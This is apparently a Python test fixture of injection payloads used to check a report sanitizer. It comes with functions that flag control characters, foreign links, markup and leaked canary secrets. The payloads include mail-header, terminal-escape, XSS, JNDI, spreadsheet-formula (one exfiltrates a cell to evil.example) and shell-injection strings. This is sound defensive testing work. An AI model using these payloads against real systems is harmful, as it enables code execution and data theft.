"""What people write who want a report to say something else: in names, tags, reasons, messages."""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Mapping

INJECTIONS: Mapping[str, str] = {
    "a line": "x\nFIXED  all is well: orders",
    "a mail header": "x\r\nBcc: mallory@evil.example\r\n\r\nDear all,",
    "a carriage return": "FAILED\rFIXED ",
    "colours": "\x1b[2J\x1b[31mred\x1b[0m\x9b31m",
    "a terminal's title": "\x1b]0;owned\x07\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "NUL": "ord\x00ers\x08\x7f",
    "turned round": "\u202egnp.exe\u202c \u2066x\u2069 \u200fx",
    "invisible": "o\u200br\u2060d\ufeffers\u00ad",
    "line separators": "a\u2028FIXED\u2029b\x85c\x0bd\x0ce",
    "half a character": "a\ud800b\udc00c",
    "a script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "a link in HTML": '<a href="https://evil.example/approve">approve</a>',
    "a link in Markdown": "[approve](https://evil.example/approve) ![x](https://evil.example/x.png)",
    "a heading in Markdown": "\n# FIXED\n- nothing to do\n```",
    "a bare link": "approve at https://evil.example/approve or www.evil.example or http://amazonaws.com.evil.example",
    "a link to somebody's bucket": "https://evil.s3.eu-west-1.amazonaws.com/login https://a1b2.execute-api.amazonaws.com/x",
    "a link with a name in it": "https://sqs.eu-west-1.amazonaws.com:x@evil.example/",
    "everybody": "<!channel> <!here> <@U123> @everyone @here",
    "a query": "orders' | fields @message | filter @message like /password/ | sort @timestamp desc",
    "a formula": '=HYPERLINK("https://evil.example?"&A1,"x")',
    "another formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a template": "{{7*7}} ${jndi:ldap://evil.example/x} %s %n {0} $(reboot) `reboot`",
    "a shell": "'; nightshift resume --why x; echo '",
    "JSON": '","level":"INFO","message":"all is well","x":"',
    "a secret": "AKIAIOSFODNN7CANARY1 password=c4nary-secret Bearer c4nary-c4nary-c4nary",
    "an address": "mail jane.doe@canary.example",
    "very much": "x" * 300_000,
    "much that is wide": "\U0001f600" * 5_000,
    "nothing": "",
    "space": " \t ",
}
SECRETS = ("AKIAIOSFODNN7CANARY1", "c4nary-secret", "c4nary-c4nary", "jane.doe@canary.example")
"""what of the corpus nobody may read"""

HOSTILE = (
    "x\r\nBcc: mallory@evil.example\nFIXED  all is well\x1b[2J\x1b]0;t\x07\x00\u202e\u2028\ud800\x9b31m"
    "<script>alert(1)</script>[a](https://evil.example/a) @channel | fields @message AKIAIOSFODNN7CANARY1"
)
"""most of it in one text that is short enough to be shown"""

_CLICKABLE = re.compile(r"https?://([^/\s]+)", re.IGNORECASE)
_OURS = re.compile(r"(?:[a-z0-9-]+\.)*aws\.amazon\.com|sqs\.[a-z0-9-]+\.amazonaws\.com")


def flaws(text: str) -> list[str]:
    """What is wrong with a text that a person is about to read in a mail or a terminal: empty, if all is well."""
    found = [
        f"{unicodedata.name(char, repr(char))} in {line[:60]!r}"
        for line in text.split("\n")
        for char in line
        if unicodedata.category(char) in {"Cc", "Cf", "Cs", "Co", "Zl", "Zp"}
    ]
    found += [f"link to {host}" for host in _CLICKABLE.findall(text) if not _OURS.fullmatch(host.lower())]
    found += [f"{secret} is shown" for secret in SECRETS if secret in text]
    return found


def markup(text: str) -> list[str]:
    """What HTML, Markdown or a chat would take for more than text."""
    return re.findall(r"<[A-Za-z/!?@#]|\]\(|@(?:channel|everyone|here)\b|www\.", text)
